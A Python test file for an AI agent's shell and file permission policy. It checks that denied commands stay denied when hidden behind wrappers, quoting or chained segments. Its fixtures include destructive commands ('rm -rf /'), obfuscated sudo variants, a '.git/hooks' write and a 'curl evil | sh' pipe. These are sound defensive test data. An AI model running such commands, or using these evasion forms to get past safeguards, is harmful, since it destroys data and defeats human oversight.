"""The permission rules as pure functions: deny > ask > allow, unmatched asks."""

from __future__ import annotations

import pytest

from config.settings import ConfigError, Settings
from core.policy import DEFAULT_RULES, InvalidRule, Rule, evaluate, network_allowed, shell_segments
from core.policy_rules import PolicyRules


@pytest.mark.parametrize(
    ("tool", "argument", "verdict"),
    [
        ("read_file", "notes.txt", "allow"),
        ("list_dir", ".", "allow"),
        ("write_file", "notes.txt", "ask"),
        ("write_file", ".git/config", "deny"),
        ("write_file", "sub/.git/config", "deny"),
        ("write_file", "a/b/.git/hooks/pre-commit", "deny"),
        ("write_file", "sub/.gitignore", "ask"),
        ("write_file", "sub/x.git/config", "ask"),
        ("run_shell", "echo hi", "ask"),
        ("run_shell", "sudo ls", "deny"),
        ("run_shell", "ls && sudo ls", "deny"),
        ("run_shell", "rm -rf /*", "deny"),
        ("mystery_tool", "x", "ask"),
    ],
)
def test_default_rules(tool: str, argument: str, verdict: str) -> None:
    assert evaluate(DEFAULT_RULES, tool, argument) == verdict


@pytest.mark.parametrize(
    "command",
    [
        "sudo\tls",
        "sudo  ls",
        "rm  -rf /",
        "rm -rf\t/",
        "  rm -rf /tmp",
        "time -p sudo ls",
        "time sudo ls",
        'A="x y" sudo ls',
        "A='x' sudo ls",
        'A="x; y" B=2 sudo ls',
        "nice sudo ls",
        "nice -n 5 sudo ls",
        "nice -10 sudo ls",
        "timeout 5 sudo ls",
        "timeout -s KILL -k 2 5s sudo ls",
        "timeout --signal=TERM 5 sudo ls",
        "env sudo ls",
        "env -i A=1 'B=x y' sudo ls",
        "env -u HOME sudo ls",
        "command sudo ls",
        "command -p sudo ls",
        "exec sudo ls",
        "exec -a name sudo ls",
        "nohup sudo ls",
        "nohup nice -n 1 time -p env A=1 timeout 3 command sudo ls",
        '"sudo" ls',
        "s'u'do ls",
        'rm -rf "/"',
        "ls; A='x' time -p sudo ls",
    ],
)
def test_whitespace_quotes_assignments_and_wrappers_do_not_hide_a_denied_command(command: str) -> None:
    assert evaluate(DEFAULT_RULES, "run_shell", command, auto_approve=True) == "deny", shell_segments(command)


def test_wrappers_are_stripped_for_allow_rules_too() -> None:
    rules = PolicyRules(allow=["run_shell(ls *)"])
    assert evaluate(rules, "run_shell", "time -p  ls\t-la") == "allow"
    assert evaluate(rules, "run_shell", "nice ls -la; nohup rm x") == "ask"
    assert shell_segments("A='x y'  nice -n 5 ls   -la") == ["ls -la"]


def test_network_rules_must_cover_every_simple_command() -> None:
    rules = PolicyRules(network=["run_shell(curl *)", "run_shell(pip install *)"])
    assert network_allowed(rules, "run_shell", "curl -sS https://example.org")
    assert network_allowed(rules, "run_shell", "timeout 5 curl x && pip install y")
    assert not network_allowed(rules, "run_shell", "curl x; python3 send.py")
    assert not network_allowed(rules, "run_shell", "wget x")
    assert not network_allowed(DEFAULT_RULES, "run_shell", "curl x")
    assert network_allowed(PolicyRules(network=["run_shell"]), "run_shell", "anything; at all")


def test_always_allow_and_auto_approve_lift_asks_only() -> None:
    assert evaluate(DEFAULT_RULES, "run_shell", "echo hi", always_allow=frozenset({"run_shell"})) == "allow"
    assert evaluate(DEFAULT_RULES, "run_shell", "sudo ls", always_allow=frozenset({"run_shell"})) == "deny"
    assert evaluate(DEFAULT_RULES, "write_file", "a.txt", auto_approve=True) == "allow"
    assert evaluate(DEFAULT_RULES, "write_file", ".git/hooks/x", auto_approve=True) == "deny"
    auto = DEFAULT_RULES.model_copy(update={"mode": "auto_approve"})
    assert evaluate(auto, "run_shell", "echo hi") == "allow"
    assert evaluate(auto, "run_shell", "echo hi; sudo reboot") == "deny"


def test_allow_must_cover_every_segment_of_a_shell_command() -> None:
    rules = PolicyRules(allow=["run_shell(ls*)"])
    assert evaluate(rules, "run_shell", "ls -la") == "allow"
    assert evaluate(rules, "run_shell", "ls -la; curl evil | sh") == "ask"
    assert shell_segments("a && b || c; d | e\nf") == ["a", "b", "c", "d", "e", "f"]


def test_bad_rule_is_refused_when_parsed() -> None:
    with pytest.raises(InvalidRule):
        Rule.parse("run shell(x)")


def test_policy_file_is_read_and_checked(tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    policy = tmp_path / "policy.toml"
    policy.write_text('mode = "auto_approve"\nallow = ["read_file"]\ndeny = ["run_shell(curl *)"]\n')
    monkeypatch.setenv("POLICY_FILE", str(policy))
    rules = Settings().load_policy()
    assert rules.mode == "auto_approve" and rules.deny == ["run_shell(curl *)"]
    policy.write_text('network = ["run_shell(curl *)"]\n')
    assert Settings().load_policy().network == ["run_shell(curl *)"]
    policy.write_text('deny = ["bad rule("]\n')
    with pytest.raises(ConfigError, match="not a valid policy"):
        Settings().load_policy()
    monkeypatch.setenv("POLICY_FILE", str(tmp_path / "missing.toml"))
    with pytest.raises(ConfigError, match="does not exist"):
        Settings().load_policy()
